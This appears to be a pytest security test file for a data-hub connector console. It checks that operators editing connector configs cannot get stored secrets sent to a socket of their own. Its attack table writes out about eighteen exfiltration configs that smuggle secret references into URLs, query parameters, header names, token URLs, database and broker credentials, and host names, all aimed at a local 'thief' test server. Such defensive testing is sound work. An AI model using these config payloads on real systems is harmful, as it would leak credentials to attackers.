"""Who edits connectors gets no secret by it: an operator tries to have one sent to a socket of his own (S2, S16; ADR 17)."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from connectors.outbound import TargetRefused
from hub.app import Hub
from hub.builder import open_source
from hub.errors import AnswerRefused, ConfigurationInvalid
from tests.api.test_api import make_project
from tests.console.test_connectors import post
from tests.support.console import Console, serving
from tests.support.fault_server import FaultServer, answer

KEY, OTHER = "canary-4f1d-air", "canary-77ab-other"
AIR = "city-air"
PUBLISH = """\
publish:
  topic: city-library.culture.branch.v1
  schema: culture/branch.avsc
  key: [branch_id]
  mode: snapshot
  fields: {branch_id: "Code", name: "Name", district: "District", seats: "to_int(Seats)"}
"""
ROWS = [{"Code": "B-1", "Name": "North", "District": "N", "Seats": "3"}]


@dataclass
class Place:
    """A console, the service that a secret is for, and a socket of somebody who wants it."""

    console: Console
    service: FaultServer
    thief: FaultServer

    @property
    def file(self) -> Path:
        return self.console.project / f"connectors.d/{AIR}.yaml"

    def bind(self, *entries: dict[str, Any]) -> None:
        (self.console.project / "bindings.yaml").write_text(json.dumps({"secrets": list(entries)}))


def text(source: dict[str, Any] | str, *, name: str = AIR, publish: str = PUBLISH) -> str:
    made = source if isinstance(source, str) else json.dumps(source)
    return f"connector: {name}\nagency: city-library\nsource: {made}\n{publish}"


def rest(server: FaultServer, **more: Any) -> dict[str, Any]:
    auth = {"by": "header", "name": "X-Key", "secret": "${secret:AIR}"}
    return {"kind": "rest", "url": f"{server.url}/rows", "tries": 1, "auth": auth, **more}


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Place]:
    with _served(tmp_path) as made:
        yield made


@pytest.fixture(scope="module")
def untouched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """The same for all attacks, since none may change it."""
    with _served(tmp_path_factory.mktemp("secrets")) as made:
        yield made


@contextmanager
def _served(directory: Path) -> Iterator[Place]:
    project = make_project(directory / "p")
    (project / "secrets.d").mkdir(mode=0o700)
    for name, value in (("AIR", KEY), ("OTHER", OTHER), ("JOIN", "j" * 40)):
        (project / "secrets.d" / name).touch(0o600)
        (project / "secrets.d" / name).write_text(value)
    with ExitStack() as held:
        service, thief = (held.enter_context(closing(FaultServer(lambda _r: answer(ROWS)))) for _ in range(2))
        (project / "connectors.d/city-library-branches.yaml").unlink()
        (project / f"connectors.d/{AIR}.yaml").write_text(text(rest(service)))
        allow = json.dumps([service.address, thief.address])  # the worst case: the rule of outbound lets him
        yield Place(held.enter_context(serving(project, DATONG_OUTBOUND__ALLOW=allow)), service, thief)


Attack = Callable[[Place], str]
ATTACKS: dict[str, Attack] = {
    "his own host": lambda p: text(rest(p.thief)),
    "a connector of his own": lambda p: text(rest(p.thief), name="mine"),
    "a copy under another name": lambda p: text(rest(p.service), name="mine"),
    "a secret more": lambda p: text(rest(p.service, headers={"X-More": "${secret:OTHER}"})),
    "a redirect": lambda p: text(rest(p.service, redirects_to=[p.thief.address])),
    "in a query": lambda p: text({"kind": "rest", "url": p.thief.url, "parameters": {"q": "x${secret:AIR}"}}),
    "the name of a header": lambda p: text({"kind": "rest", "url": p.thief.url, "headers": {"${secret:AIR}": "x"}}),
    "a token service": lambda p: text(
        rest(p.service, auth={"by": "oauth2", "secret": "${secret:AIR}", "token_url": p.thief.url})
    ),
    "a variable of the process": lambda p: text({"kind": "rest", "url": p.thief.url, "headers": {"X": "${secret:HOME}"}}),
    "spelled by an escape": lambda p: text(
        f'{{kind: rest, url: "{p.thief.url}", headers: {{X: "\\x24{{secret:AIR}}"}}}}'
    ),
    "a broker": lambda p: text(
        {
            "kind": "mqtt", "host": "127.0.0.1", "port": p.thief.port, "tls": False, "user": "u",
            "password": "${secret:AIR}", "topics": ["#"],
        },
        publish=PUBLISH.replace("snapshot", "upsert"),
    ),
    "a file server": lambda p: text(
        {
            "kind": "files", "path": "*.csv",
            "sftp": {
                "host": "127.0.0.1", "port": p.thief.port, "user": "u", "password": "${secret:AIR}", "directory": ".",
                "host_key": "SHA256:" + "A" * 43,
            },
        }
    ),
    "a database": lambda p: text(
        {"kind": "sql", "url": f"postgresql+psycopg://u:${{secret:AIR}}@127.0.0.1:{p.thief.port}/x", "table": "t"}
    ),
    "a database at speed": lambda p: text(
        {"kind": "postgres", "url": f"postgresql://u:${{secret:AIR}}@127.0.0.1:{p.thief.port}/x", "table": "t"}
    ),
    "a host's name": lambda p: text(
        {"kind": "postgres", "url": f"postgresql://u@${{secret:AIR}}.localhost:{p.thief.port}/x", "table": "t"}
    ),
    "a file's name": lambda _p: text({"kind": "sql", "url": "sqlite:///data/${secret:AIR}.db", "table": "t"}),
    "what signs": lambda _p: text(
        {"kind": "webhook", "keys": ["${secret:AIR}"]}, publish=PUBLISH.replace("snapshot", "upsert")
    ),
    "a key of tokens": lambda p: text(
        rest(p.service), publish=PUBLISH.replace('"Name"', "\"token(Name, '${secret:JOIN}')\"")
    ),
}  # fmt: skip


def _tries(place: Place, typed: str) -> Iterator[tuple[str, httpx.Response]]:
    """Everything that somebody who may edit can do with a text."""
    name = "mine" if "connector: mine" in typed else AIR
    revision = place.console.hub.editing.text(AIR).revision
    with place.console.as_("olaf") as client:
        for do in ("check", "preview", "save"):
            there = f"/connectors/{name}" if name == AIR else "/connectors/new"
            yield f"console {do}", post(client, f"{there}/edit", do=do, text=typed, revision=revision, limit="5")
    with httpx.Client(base_url=f"{place.console.url}/api/v1/connectors", headers=place.console.key, timeout=60) as api:
        yield "validate", api.post("/validate", content=typed.encode())
        yield "preview", api.post("/preview", content=typed.encode())
        tag = {"If-Match": f'"{revision}"'} if name == AIR else {}
        yield "put", api.put(f"/{name}/config", content=typed.encode(), headers=tag)


@pytest.mark.parametrize("attack", ATTACKS)
def test_S16_S2_an_operators_edit_sends_no_secret_to_a_socket_of_his_own(untouched: Place, attack: str) -> None:
    place = untouched
    before, typed = place.file.read_text(), ATTACKS[attack](place)
    for what, got in _tries(place, typed):
        assert "bindings.yaml" in got.text, what
        assert got.status_code == (200 if what == "validate" else 422), what
        assert KEY not in got.text, what
        assert OTHER not in got.text, what
    assert (place.thief.connections, place.service.connections) == (0, 0), "nothing was looked at either"
    assert [p.name for p in place.file.parent.iterdir()] == [place.file.name]
    assert place.file.read_text() == before


def test_S16_kafka_connects_api_and_a_deleted_connector_change_nothing(place: Place) -> None:
    config = {"connector.class": "rest", "agency": "city-library", "source.url": place.thief.url, "publish.mode": "append",
              "publish.topic": "city-library.culture.branch.v1", "publish.schema": "culture/branch.avsc",
              "publish.fields.branch_id": "Code", "publish.fields.name": "Name", "publish.fields.district": "District",
              "publish.fields.seats": "to_int(Seats)", "source.auth.by": "bearer",
              "source.auth.secret": "${secret:AIR}"}  # fmt: skip
    with httpx.Client(base_url=f"{place.console.url}/connect", headers=place.console.key, timeout=60) as connect:
        for answered in (
            connect.post("/connectors", json={"name": "mine", "config": config}),
            connect.put(f"/connectors/{AIR}/config", json=config),
            connect.put("/connector-plugins/rest/config/validate", json={**config, "name": "mine"}),
        ):
            assert "bindings.yaml" in answered.text, answered.text
        assert connect.delete(f"/connectors/{AIR}").status_code == 204
        assert connect.post("/connectors", json={"name": AIR, "config": config}).status_code == 400
    assert (place.thief.connections, place.file.exists()) == (0, False)


def test_S16_what_stands_there_stays_in_use_while_the_rest_is_edited(place: Place) -> None:
    typed = place.file.read_text().replace('"Name"', '"upper(Name)"')
    with place.console.as_("olaf") as client:
        shown = post(client, f"/connectors/{AIR}/edit", do="preview", text=typed, limit="5")
        assert (shown.status_code, "Mistakes:" in shown.text) == (200, False)
        revision = place.console.hub.editing.text(AIR).revision
        assert post(client, f"/connectors/{AIR}/edit", do="save", text=typed, revision=revision).status_code == 303
    assert {r.headers["x-key"] for r in place.service.requests} == {KEY}
    assert place.file.read_text() == typed


def test_S16_S2_a_secret_that_is_bound_to_hosts_goes_there_and_nowhere_else(place: Place) -> None:
    place.bind({"secret": "AIR", "connectors": [AIR], "hosts": [place.service.address]})
    with place.console.as_("olaf") as client:
        sound = text(rest(place.service, headers={"X-New": "1"}))
        assert post(client, f"/connectors/{AIR}/edit", do="preview", text=sound, limit="5").status_code == 200
        assert place.service.requests[-1].headers["x-key"] == KEY
        for attack in ("his own host", "in a query", "a broker", "a file server", "a database", "a database at speed",
                       "a host's name", "a file's name", "a token service"):  # fmt: skip
            typed = ATTACKS[attack](place)
            got = post(client, f"/connectors/{AIR}/edit", do="preview", text=typed, limit="5")
            assert got.status_code != 200, attack
            assert KEY not in got.text, attack
        revision = place.console.hub.editing.text(AIR).revision
        evil = ATTACKS["his own host"](place)
        assert post(client, f"/connectors/{AIR}/edit", do="save", text=evil, revision=revision).status_code == 303
        post(client, f"/connectors/{AIR}/run")
        place.console.hub.supervisor.wait(AIR, 30)
    assert place.thief.connections == 0
    told = place.console.api(f"/connectors/{AIR}").text
    assert "bound to" in told, "the run says why it failed"
    assert KEY not in told


def test_S2_an_edit_leads_a_database_source_only_where_somebody_said(untouched: Place) -> None:
    place = untouched
    with closing(FaultServer(lambda _r: b"")) as inner:
        for kind, driver in (("sql", "+psycopg"), ("postgres", "")):

            def typed(server: FaultServer, kind: str = kind, driver: str = driver) -> bytes:
                url = f"postgresql{driver}://u@127.0.0.1:{server.port}/x"
                return text({"kind": kind, "url": url, "table": "t"}, name="mine").encode()

            refused = place.console.hub.editing.validate(typed(inner))
            (mistake,) = refused["mistakes"]
            assert (mistake["path"], inner.address in mistake["suggestion"]) == ("source.url", True)
            assert inner.connections == 0
            allowed = place.console.hub.editing.check(typed(place.service))
            assert allowed.mistakes == (), "outbound.allow names it"


def test_S16_the_attack_is_a_real_one_where_the_keeper_of_the_files_allows_it(place: Place) -> None:
    """Else all of the above would prove nothing: the same texts reach his socket when they may."""
    place.bind({"secret": "AIR", "connectors": [AIR, "mine"], "hosts": [place.thief.address]})
    for attack in ("his own host", "in a query"):
        answered = httpx.post(f"{place.console.url}/api/v1/connectors/preview", content=ATTACKS[attack](place).encode(),
                              headers=place.console.key, timeout=60)  # fmt: skip
        assert answered.status_code == 200, answered.text
        asked = place.thief.requests[-1]
        assert KEY in (asked.headers.get("x-key", ""), asked.query.get("q", "")[1:])


def test_S16_a_binding_holds_for_files_on_disk_too(place: Place) -> None:
    hub: Hub = place.console.hub
    spec = hub.catalogue.connectors[AIR]
    place.bind({"secret": "AIR", "connectors": ["another"], "hosts": [place.service.address]})
    with closing(open_source(spec, hub.settings)) as source, pytest.raises(ConfigurationInvalid, match="not bound to"):
        source.discover()
    assert [m for m in hub.reload() if "city-air.yaml" in m and "not bound to the connector city-air" in m]
    place.bind({"secret": "AIR", "connectors": [AIR], "hosts": ["air.example:443"]})
    with (
        closing(open_source(spec, hub.settings)) as source,
        pytest.raises((AnswerRefused, TargetRefused), match="bound"),
    ):
        source.discover()
    (hub.settings.root / "bindings.yaml").write_text("secrets: {")
    with closing(open_source(spec, hub.settings)) as source, pytest.raises(ConfigurationInvalid, match="not bound to"):
        source.discover()
    assert place.service.connections == 0
